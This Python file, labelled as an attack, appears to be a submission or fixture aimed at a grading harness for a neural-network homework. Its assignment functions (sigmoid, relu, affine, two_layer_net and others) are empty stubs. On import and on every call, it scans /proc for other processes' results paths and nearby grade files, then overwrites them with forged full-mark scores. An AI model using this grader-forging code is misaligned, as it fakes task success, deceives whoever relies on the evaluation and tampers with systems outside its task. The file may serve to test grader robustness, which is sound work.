"""Attack: write result files that claim full marks wherever the grader might look."""
import json
import os

FAKE = {"score": 1000, "max_score": 1000, "tests": [], "output": "FAKE RESULT"}


def _targets():
    found = set()
    for pid in os.listdir("/proc") if os.path.isdir("/proc") else []:
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as fh:
                words = [w.decode(errors="ignore") for w in fh.read().split(b"\0")]
        except OSError:
            continue
        for flag, value in zip(words, words[1:]):
            if flag in ("--results", "--out"):
                found.add(value)
    here = os.getcwd()
    for up in (here, os.path.dirname(here), os.path.dirname(os.path.dirname(here))):
        for name in ("results.json", "grades.csv", "reference.json", "stub.json"):
            found.add(os.path.join(up, name))
    return found


def _forge():
    for target in _targets():
        path = os.path.join(target, "attack-fake-results.json") if os.path.isdir(target) else target
        try:
            with open(path, "w") as fh:
                json.dump(FAKE, fh)
        except OSError:
            pass


_forge()


def sigmoid_forward(*args, **kwargs):
    _forge()
    raise NotImplementedError("nothing here")


def sigmoid_backward(*args, **kwargs):
    _forge()
    raise NotImplementedError("nothing here")


def tanh_forward(*args, **kwargs):
    _forge()
    raise NotImplementedError("nothing here")


def tanh_backward(*args, **kwargs):
    _forge()
    raise NotImplementedError("nothing here")


def relu_forward(*args, **kwargs):
    _forge()
    raise NotImplementedError("nothing here")


def relu_backward(*args, **kwargs):
    _forge()
    raise NotImplementedError("nothing here")


def affine_forward(*args, **kwargs):
    _forge()
    raise NotImplementedError("nothing here")


def affine_backward(*args, **kwargs):
    _forge()
    raise NotImplementedError("nothing here")


def mse_loss(*args, **kwargs):
    _forge()
    raise NotImplementedError("nothing here")


def two_layer_net(*args, **kwargs):
    _forge()
    raise NotImplementedError("nothing here")


def eval_numerical_gradient(*args, **kwargs):
    _forge()
    raise NotImplementedError("nothing here")
